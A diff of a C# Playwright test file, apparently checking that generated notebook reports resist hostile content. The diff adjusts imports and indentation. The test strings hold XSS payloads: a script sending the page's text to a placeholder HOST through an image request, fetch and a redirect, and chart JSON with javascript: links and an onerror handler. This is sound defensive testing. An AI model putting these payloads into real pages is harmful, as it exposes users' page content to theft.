@@ -2,7 +2,8 @@ using System.Net;
 using System.Net.Sockets;
 using System.Text;
 using Microsoft.Playwright;
-using Nca.Figures;
+using Nca.Figures.Html;
+using Nca.Figures.Model;
 using Nca.Notebooks.Comparison;
 using Nca.Notebooks.Report;
 
@@ -19,7 +20,7 @@ public sealed class HostileReportsTests(Browser browser) : IClassFixture<Browser
     // HOST becomes an address that listens; STEAL a script that would carry the page's text there.
     private const string Steal =
         "window.pwned = 1; new Image().src = 'HOST/steal?' + encodeURIComponent(document.body.innerText); fetch('HOST/steal'); loca"
-            + "tion = 'HOST/gone';";
+        + "tion = 'HOST/gone';";
 
     private readonly string _folder = Directory.CreateTempSubdirectory("nca-").FullName;
 
@@ -108,9 +109,9 @@ public sealed class HostileReportsTests(Browser browser) : IClassFixture<Browser
         await using var host = new Listener();
         const string Chart =
             "{\"data\":[{\"type\":\"scatter\",\"x\":[1,2],\"y\":[1,2],\"mode\":\"markers+text\",\"text\":[\"<a href=\\\"javascript:"
-                + "window.pwned=1\\\">x</a>\",\"<a href=\\\"HOST/text\\\">y</a>\"]}],\"layout\":{\"title\":{\"text\":\"<a href=\\\"HOST/t"
-                + "itle\\\">t</a><img src=x onerror=window.pwned=1>\"},\"margin\":{\"t\":40},\"images\":[{\"source\":\"HOST/source\",\"x"
-                + "\":0,\"y\":0,\"sizex\":1,\"sizey\":1,\"xref\":\"paper\",\"yref\":\"paper\"}]}}";
+            + "window.pwned=1\\\">x</a>\",\"<a href=\\\"HOST/text\\\">y</a>\"]}],\"layout\":{\"title\":{\"text\":\"<a href=\\\"HOST/t"
+            + "itle\\\">t</a><img src=x onerror=window.pwned=1>\"},\"margin\":{\"t\":40},\"images\":[{\"source\":\"HOST/source\",\"x"
+            + "\":0,\"y\":0,\"sizex\":1,\"sizey\":1,\"xref\":\"paper\",\"yref\":\"paper\"}]}}";
         var crafted = markup
             .Replace("CHART", Chart.Replace("</", "<\\/"), StringComparison.Ordinal)
             .Replace("HOST", host.Address, StringComparison.Ordinal);
